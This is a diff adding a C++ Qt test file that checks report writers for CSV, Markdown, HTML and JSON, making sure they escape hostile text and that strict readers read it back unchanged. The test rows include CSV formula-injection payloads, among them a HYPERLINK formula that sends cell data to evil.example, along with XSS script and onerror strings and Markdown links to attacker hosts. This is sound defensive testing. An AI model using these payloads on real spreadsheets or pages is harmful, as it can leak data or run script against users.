@@ -1,0 +1,302 @@
+// The writers every export shares (engine/src/report/): CSV fields safe in a spreadsheet, Markdown and
+// HTML text that stays text, JSON valid for any value — each written, then read back by a strict
+// reader of the format (tests/support/*reader.h) to the same text (docs/bad-input.md, "What goes out").
+
+#include "testutils.h"
+
+#include "report/csv.h"
+#include "report/html.h"
+#include "report/markdown.h"
+#include "report/reportjson.h"
+#include "support/csvreader.h"
+#include "support/htmlreader.h"
+#include "support/jsonreader.h"
+#include "support/markdownreader.h"
+
+#include <QTest>
+
+using namespace hiera;
+using namespace testutils;
+
+namespace {
+
+std::string bytes(const QByteArray& b)
+{
+    return std::string(b.constData(), static_cast<std::size_t>(b.size()));
+}
+
+// Hostile text every writer is given: formulas, markup, links, HTML, line breaks, bytes that are not
+// UTF-8, NUL, edges of spaces.
+void hostileRows()
+{
+    QTest::addColumn<QByteArray>("text");
+    const QList<QPair<const char*, QByteArray>> rows = {
+        {"plain", "profile::ntp::servers"},
+        {"formula", "=1+2"},
+        {"hyperlink formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
+        {"plus", "+1"},
+        {"minus formula", "-1+2"},
+        {"at", "@SUM(A1:A2)"},
+        {"tab first", "\tx"},
+        {"CR first", "\rx"},
+        {"NUL first", QByteArray("\0x", 2)},
+        {"negative number", "-5"},
+        {"negative float", "-1.5e+20"},
+        {"quote then formula", "'=1"},
+        {"quotes then formula", "''@x"},
+        {"quote alone", "'"},
+        {"pipe", "a|b"},
+        {"backslash pipe", "a\\|b"},
+        {"backticks", "`a``b`"},
+        {"backtick edges", "`x`"},
+        {"space edges", " x "},
+        {"only spaces", "   "},
+        {"tab edges", "\tx\t"},
+        {"newlines", "one\ntwo\r\nthree\rfour"},
+        {"trailing newline", "x\n"},
+        {"script", "<script>alert(1)</script>"},
+        {"img", "<img src=x onerror=alert(1)>"},
+        {"attribute breakout", "\" onmouseover=\"alert(1)\" x='"},
+        {"markdown link", "[click](http://evil.example)"},
+        {"markdown image", "![x](http://evil.example/x.png)"},
+        {"bare url", "see http://evil.example/x"},
+        {"www", "www.evil.example"},
+        {"email", "a@evil.example"},
+        {"emphasis", "*em* _em_ ~~s~~ $x$"},
+        {"entity", "&amp; &lt; &#32;"},
+        {"backslashes", "\\ \\\\ \\n"},
+        {"heading", "# h"},
+        {"html comment", "<!-- x -->"},
+        {"not UTF-8", "caf\xe9 \xff\xfe"},
+        {"NUL inside", QByteArray("a\0b", 3)},
+        {"control characters", "\x01\x1b[31m\x7f"},
+        {"unicode", "Gr\xc3\xbc\xc3\x9f \xe2\x80\xae"},
+        {"empty", ""},
+    };
+    for (const auto& [name, text] : rows)
+        QTest::newRow(name) << text;
+}
+
+} // namespace
+
+class TestReportFormats : public QObject {
+    Q_OBJECT
+
+private Q_SLOTS:
+    void csvFieldsAreNeutralised_data();
+    void csvFieldsAreNeutralised();
+    void csvReadsBack_data() { hostileRows(); }
+    void csvReadsBack();
+    void markdownReadsBack_data() { hostileRows(); }
+    void markdownReadsBack();
+    void markdownCodeBlock();
+    void htmlReadsBack_data() { hostileRows(); }
+    void htmlReadsBack();
+    void jsonReadsBack_data() { hostileRows(); }
+    void jsonReadsBack();
+    void jsonReplacementsArePointed();
+    void strictReadersRefuse_data();
+    void strictReadersRefuse();
+};
+
+void TestReportFormats::csvFieldsAreNeutralised_data()
+{
+    QTest::addColumn<QByteArray>("field");
+    QTest::addColumn<QByteArray>("written");
+    QTest::newRow("plain") << QByteArray("web01") << QByteArray("web01");
+    QTest::newRow("comma") << QByteArray("a,b") << QByteArray("\"a,b\"");
+    QTest::newRow("quote") << QByteArray("a\"b") << QByteArray("\"a\"\"b\"");
+    QTest::newRow("=") << QByteArray("=1+2") << QByteArray("\"'=1+2\"");
+    QTest::newRow("+") << QByteArray("+1") << QByteArray("\"'+1\"");
+    QTest::newRow("- formula") << QByteArray("-1+2") << QByteArray("\"'-1+2\"");
+    QTest::newRow("@") << QByteArray("@SUM(1)") << QByteArray("\"'@SUM(1)\"");
+    QTest::newRow("tab") << QByteArray("\tx") << QByteArray("\"'\tx\"");
+    QTest::newRow("CR") << QByteArray("\rx") << QByteArray("\"'\rx\"");
+    QTest::newRow("NUL") << QByteArray("\0x", 2) << QByteArray("\"'\0x\"", 5);
+    QTest::newRow("formula with quotes") << QByteArray("=\"a\"") << QByteArray("\"'=\"\"a\"\"\"");
+    // A number is no formula: negative values stay numbers.
+    QTest::newRow("-5") << QByteArray("-5") << QByteArray("-5");
+    QTest::newRow("-0.25") << QByteArray("-0.25") << QByteArray("-0.25");
+    QTest::newRow("-1.5e+20") << QByteArray("-1.5e+20") << QByteArray("-1.5e+20");
+    QTest::newRow("- alone") << QByteArray("-") << QByteArray("\"'-\"");
+    QTest::newRow("-5x") << QByteArray("-5x") << QByteArray("\"'-5x\"");
+    QTest::newRow("-.5") << QByteArray("-.5") << QByteArray("\"'-.5\"");
+    QTest::newRow("-Infinity") << QByteArray("-Infinity") << QByteArray("\"'-Infinity\"");
+    // One quote more where a quote already stands before a formula character, so the rule reverses.
+    QTest::newRow("'=") << QByteArray("'=1") << QByteArray("\"''=1\"");
+    QTest::newRow("'-5") << QByteArray("'-5") << QByteArray("\"''-5\"");
+    QTest::newRow("'abc") << QByteArray("'abc") << QByteArray("'abc");
+    QTest::newRow("space then =") << QByteArray(" =1") << QByteArray(" =1");
+}
+
+void TestReportFormats::csvFieldsAreNeutralised()
+{
+    QFETCH(QByteArray, field);
+    QFETCH(QByteArray, written);
+    QCOMPARE(QByteArray::fromStdString(detail::csvField(bytes(field))), written);
+}
+
+void TestReportFormats::csvReadsBack()
+{
+    QFETCH(QByteArray, text);
+    const std::string field = bytes(text);
+    std::string csv;
+    detail::appendCsvRow(csv, {"before", field, "after"});
+    detail::appendCsvRow(csv, {field});
+    std::string error;
+    const auto rows = testsupport::readCsv(csv, &error);
+    QVERIFY2(rows, error.c_str());
+    QCOMPARE(rows->size(), std::size_t(2));
+    QCOMPARE((*rows)[0].size(), std::size_t(3));
+    QCOMPARE((*rows)[1].size(), std::size_t(1));
+    QCOMPARE(QByteArray::fromStdString(detail::csvFieldText((*rows)[0][1])), text);
+    QCOMPARE(QByteArray::fromStdString(detail::csvFieldText((*rows)[1][0])), text);
+    const auto formula = testsupport::csvFormulaField(*rows);
+    QVERIFY2(!formula, formula ? formula->c_str() : "");
+}
+
+void TestReportFormats::markdownReadsBack()
+{
+    QFETCH(QByteArray, text);
+    const std::string s = bytes(text);
+    const std::string expected = testsupport::markdownNormalised(s);
+    using detail::MarkdownContext;
+    for (const bool code : {false, true}) {
+        // In a table cell, between two others.
+        const std::string cell = code ? detail::markdownCode(s) : detail::markdownText(s);
+        QVERIFY2(cell.find('\n') == std::string::npos && cell.find('\r') == std::string::npos, cell.c_str());
+        std::string error;
+        const auto cells = testsupport::markdownRowCells("| a | " + cell + " | b |", &error);
+        QVERIFY2(cells, error.c_str());
+        QCOMPARE(cells->size(), std::size_t(3));
+        const auto read = testsupport::markdownInline((*cells)[1], false, &error);
+        QVERIFY2(read, error.c_str());
+        QCOMPARE(QByteArray::fromStdString(*read), QByteArray::fromStdString(expected));
+        // Inline (a list item): the pipe is no boundary there.
+        const std::string inlineText = code ? detail::markdownCode(s, MarkdownContext::Inline) : detail::markdownText(s);
+        const auto readInline = testsupport::markdownInline(inlineText, false, &error);
+        QVERIFY2(readInline, error.c_str());
+        QCOMPARE(QByteArray::fromStdString(*readInline), QByteArray::fromStdString(expected));
+    }
+}
+
+void TestReportFormats::markdownCodeBlock()
+{
+    // A value whose YAML holds a fence of its own cannot close the block early.
+    const std::string block = detail::markdownCodeBlock("---\n- |\n  ```\n  ````\n", "yaml");
+    QVERIFY2(block.rfind("`````yaml\n", 0) == 0, block.c_str());
+    QVERIFY2(block.size() > 6 && block.compare(block.size() - 6, 6, "`````\n") == 0, block.c_str());
+    QCOMPARE(detail::markdownCodeBlock("x", "yaml"), std::string("```yaml\nx\n```\n"));
+}
+
+void TestReportFormats::htmlReadsBack()
+{
+    QFETCH(QByteArray, text);
+    const std::string s = bytes(text);
+    const std::string page = detail::htmlDocumentStart(s, "p{margin:0}") + "<p>" + detail::htmlText(s)
+                             + "</p>\n<table><tr><td><code>" + detail::htmlText(s) + "</code></td></tr></table>\n</body></html>\n";
+    std::string error;
+    const auto doc = testsupport::readHtml(page, &error);
+    QVERIFY2(doc, error.c_str());
+    const std::string expected = testsupport::htmlNormalised(s);
+    QCOMPARE(QByteArray::fromStdString(doc->title), QByteArray::fromStdString(expected));
+    QCOMPARE(doc->paragraphs.size(), std::size_t(1));
+    QCOMPARE(QByteArray::fromStdString(doc->paragraphs[0]), QByteArray::fromStdString(expected));
+    QCOMPARE(QByteArray::fromStdString(doc->tables.at(0).at(0).at(0)), QByteArray::fromStdString(expected));
+    QCOMPARE(doc->contentSecurityPolicy, std::string(detail::kHtmlContentSecurityPolicy));
+}
+
+void TestReportFormats::jsonReadsBack()
+{
+    QFETCH(QByteArray, text);
+    const std::string s = bytes(text);
+    Hash inner;
+    inner.set(Value(s), Value(s));
+    Hash doc;
+    doc.set("value", Value(s));
+    doc.set("list", Value(Array{Value(s), Value(1), Value(-2.5)}));
+    doc.set("hash", Value(inner));
+    for (const bool pretty : {true, false}) {
+        std::string error;
+        const auto read = testsupport::readJson(detail::reportJson(Value(doc), pretty), &error);
+        QVERIFY2(read, error.c_str());
+        const Value expected(testsupport::validUtf8Replaced(s));
+        QCOMPARE(*read->asHash().find("value"), expected);
+        QCOMPARE(read->asHash().find("list")->asArray()[0], expected);
+        QCOMPARE(*read->asHash().find("hash")->asHash().find(expected), expected);
+        const bool replaced = testsupport::validUtf8Replaced(s) != s;
+        QCOMPARE(read->asHash().contains(detail::kJsonReplacementsKey), replaced);
+    }
+}
+
+void TestReportFormats::jsonReplacementsArePointed()
+{
+    Hash inner;
+    inner.set(Value(std::string("k\xff")), Value(std::nan("")));
+    Hash doc;
+    doc.set("a/b~c", Value(Array{Value(1), Value(std::string("\x80"))}));
+    doc.set("inf", Value(-HUGE_VAL));
+    doc.set("h", Value(inner));
+    std::string error;
+    const auto read = testsupport::readJson(detail::reportJson(Value(doc)), &error);
+    QVERIFY2(read, error.c_str());
+    QCOMPARE(read->asHash().find("a/b~c")->asArray()[1], Value("\xEF\xBF\xBD"));
+    QCOMPARE(*read->asHash().find("inf"), Value("-Infinity"));
+    QCOMPARE(*read->asHash().find("h")->asHash().find("k\xEF\xBF\xBD"), Value("NaN"));
+    QCOMPARE(*read->asHash().find(detail::kJsonReplacementsKey),
+             json(R"([{"pointer": "/a~1b~0c/1", "reason": "not UTF-8"}, {"pointer": "/inf", "reason": "-Infinity"},
+                      {"pointer": "/h/k\ufffd", "reason": "key not UTF-8"}, {"pointer": "/h/k\ufffd", "reason": "NaN"}])"));
+    // Nothing replaced: no list, and the text is toJson's.
+    Hash plain;
+    plain.set("k", Value(Array{Value(1.5), Value("x")}));
+    QCOMPARE(detail::reportJson(Value(plain)), toJson(Value(plain), true));
+    QCOMPARE(detail::reportJson(Value(plain), false), toJson(Value(plain)));
+}
+
+// The readers are strict: what a writer must never produce is refused, so the round trips above prove
+// something.
+void TestReportFormats::strictReadersRefuse_data()
+{
+    QTest::addColumn<QString>("format");
+    QTest::addColumn<QByteArray>("text");
+    QTest::newRow("csv: bare quote") << "csv" << QByteArray("a\"b\r\n");
+    QTest::newRow("csv: LF ending") << "csv" << QByteArray("a,b\n");
+    QTest::newRow("csv: unterminated") << "csv" << QByteArray("\"a\r\n");
+    QTest::newRow("json: raw control") << "json" << QByteArray("\"a\x01\"");
+    QTest::newRow("json: not UTF-8") << "json" << QByteArray("\"\xff\"");
+    QTest::newRow("json: lone surrogate") << "json" << QByteArray("\"\\ud800\"");
+    QTest::newRow("json: NaN") << "json" << QByteArray("[NaN]");
+    QTest::newRow("json: trailing comma") << "json" << QByteArray("[1,]");
+    QTest::newRow("json: leading zero") << "json" << QByteArray("01");
+    QTest::newRow("json: garbage after") << "json" << QByteArray("{} x");
+    QTest::newRow("md: raw html") << "md" << QByteArray("<img src=x>");
+    QTest::newRow("md: link") << "md" << QByteArray("[a](b)");
+    QTest::newRow("md: image") << "md" << QByteArray("!x");
+    QTest::newRow("md: url") << "md" << QByteArray("http://x");
+    QTest::newRow("md: www") << "md" << QByteArray("www.x");
+    QTest::newRow("md: unmatched backtick") << "md" << QByteArray("`a");
+    QTest::newRow("md: entity") << "md" << QByteArray("&amp;");
+    QTest::newRow("html: script") << "html" << QByteArray("<script>x</script>");
+    QTest::newRow("html: attribute") << "html" << QByteArray("<span onclick=\"x\">a</span>");
+    QTest::newRow("html: raw quote") << "html" << QByteArray("a\"b");
+    QTest::newRow("html: unknown entity") << "html" << QByteArray("&nbsp;");
+    QTest::newRow("html: unclosed") << "html" << QByteArray("<code>a");
+}
+
+void TestReportFormats::strictReadersRefuse()
+{
+    QFETCH(QString, format);
+    QFETCH(QByteArray, text);
+    const std::string s = bytes(text);
+    if (format == QLatin1String("csv"))
+        QVERIFY(!testsupport::readCsv(s));
+    else if (format == QLatin1String("json"))
+        QVERIFY(!testsupport::readJson(s));
+    else if (format == QLatin1String("md"))
+        QVERIFY(!testsupport::markdownInline(s));
+    else
+        QVERIFY(!testsupport::readHtml(detail::htmlDocumentStart("t", "") + "<p>" + s + "</p></body></html>"));
+}
+
+QTEST_APPLESS_MAIN(TestReportFormats)
+#include "tst_reportformats.moc"
